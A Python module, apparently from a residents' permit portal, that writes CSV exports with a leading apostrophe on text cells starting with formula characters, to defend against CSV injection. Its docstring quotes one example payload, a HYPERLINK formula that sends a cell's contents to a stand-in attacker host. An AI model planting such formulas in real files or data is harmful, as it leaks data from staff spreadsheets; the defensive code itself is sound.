"""CSV files the portal hands out, safe to open in a spreadsheet.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula (and some treat a
leading tab or carriage return the same way), so a resident who types
`=HYPERLINK("http://evil.example/?"&A1,"Click")` as their car's make could make a staff
member's spreadsheet send data away or run a command ("CSV injection", OWASP). Every text cell
that starts with one of those characters is written with a leading apostrophe, which
spreadsheets show as text and do not run. Numbers, dates and other non-text values are written
as they are.

    writer = portal.csv.writer(out)
    writer.writerow(["street", "make"])
    writer.writerow([permit.street.name, permit.make])

Every CSV export uses this writer instead of `csv.writer`.
"""

import csv
import io
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """`value`, or, for text a spreadsheet would run as a formula, that text after an
    apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """`csv.writer`'s `writerow` and `writerows`, with every cell neutralised."""

    def __init__(self, file, **kwargs):
        self._writer = csv.writer(file, **kwargs)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([neutralise(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(file, **kwargs) -> SafeWriter:
    """Like `csv.writer(file, **kwargs)`, safe to open in a spreadsheet."""
    return SafeWriter(file, **kwargs)


def rows_to_text(rows: Iterable[Iterable[Any]]) -> str:
    """The whole CSV as text (header included, if it is the first row)."""
    out = io.StringIO()
    writer(out).writerows(rows)
    return out.getvalue()
